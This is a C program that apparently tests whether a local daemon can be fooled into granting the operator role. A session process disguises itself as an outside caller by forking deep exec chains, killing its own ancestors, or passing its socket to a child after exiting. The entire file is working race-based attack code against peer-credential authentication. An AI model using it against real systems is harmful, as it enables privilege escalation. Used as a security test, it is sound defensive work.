// Tries of a process of a session to pass for one outside: with the operator's token it would then be the operator.
//
// escape SOCKET TOKEN DOOR TRY COUNT     prints how many tries there were and how many won, and what the last one heard
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *path, *token, *door;
static char heard[16384];

static int knock(void) {
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    strncpy(at.sun_path, path, sizeof at.sun_path - 1);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&at, sizeof at)) _exit(3);
    return s;
}

// Whether the daemon takes whoever has knocked for the operator.
static int ask(int s) {
    char asked[4096];
    if (!strcmp(door, "http")) {
        const char *body = "{\"id\":1,\"method\":\"system.info\"}";
        snprintf(asked, sizeof asked,
                 "POST /rpc HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n"
                 "Content-Length: %zu\r\nConnection: close\r\n\r\n%s", token, strlen(body), body);
    } else {
        snprintf(asked, sizeof asked,
                 "{\"id\":1,\"method\":\"system.auth\",\"params\":{\"token\":\"%s\"}}\n{\"id\":2,\"method\":\"system.info\"}\n", token);
    }
    send(s, asked, strlen(asked), MSG_NOSIGNAL);
    if (strcmp(door, "http")) shutdown(s, SHUT_WR);
    size_t len = 0;
    for (ssize_t n; len < sizeof heard - 1 && (n = read(s, heard + len, sizeof heard - 1 - len)) > 0;) len += n;
    heard[len] = 0;
    return strstr(heard, "\"role\":\"operator\"") != NULL;
}

static void report(int out, int won) {
    char verdict = won ? 'W' : 'L';
    write(out, &verdict, 1);
    write(out, heard, strlen(heard));
    _exit(0);
}

// More processes above it than anybody may want to count. Each is a new program: forks of forks become slow.
static void deep(char **argv, int out, int count) {
    char left[16], end[16];
    if (!count) report(out, ask(knock()));
    if (fork()) { wait(NULL); _exit(0); }
    snprintf(left, sizeof left, "%d", count - 1);
    snprintf(end, sizeof end, "%d", out);
    execl(argv[0], argv[0], path, token, door, "deep", left, end, NULL);
}

// Those above it die, the oldest first, while the daemon looks from one to the next.
static void killed(int out) {
    enum { ABOVE = 32 };
    pid_t above[ABOVE];
    for (int i = 0; i < ABOVE; i++) {
        above[i] = getpid();
        if (fork()) { wait(NULL); _exit(0); }
    }
    int s = knock();
    for (int i = 0; i < ABOVE; i++) kill(above[i], SIGKILL);
    report(out, ask(s));
}

// The one that knocked is gone, and its connection is another's.
static void gone(int out) {
    int s = knock();
    pid_t before = getpid();
    if (fork()) _exit(0);
    while (getppid() == before) usleep(100);
    report(out, ask(s));
}

int main(int argc, char **argv) {
    path = argv[1], token = argv[2], door = argv[3];
    if (argc > 6) deep(argv, atoi(argv[6]), atoi(argv[5]));
    int count = atoi(argv[5]), tries = strcmp(argv[4], "deep") ? count : 1, won = 0;
    char all[16384] = "";
    for (int i = 0; i < tries; i++) {
        int ends[2];
        pipe(ends);
        if (!fork()) {
            close(ends[0]);
            if (!strcmp(argv[4], "deep")) deep(argv, ends[1], count);
            if (!strcmp(argv[4], "killed")) killed(ends[1]);
            gone(ends[1]);
        }
        close(ends[1]);
        size_t len = 0;
        for (ssize_t n; len < sizeof all - 1 && (n = read(ends[0], all + len, sizeof all - 1 - len)) > 0;) len += n;
        all[len] = 0;
        close(ends[0]);
        wait(NULL);
        won += all[0] == 'W';
        if (!len) { puts("a try has said nothing"); return 1; }
    }
    printf("%d tries, %d won: %s\n", tries, won, all + 1);
    return 0;
}
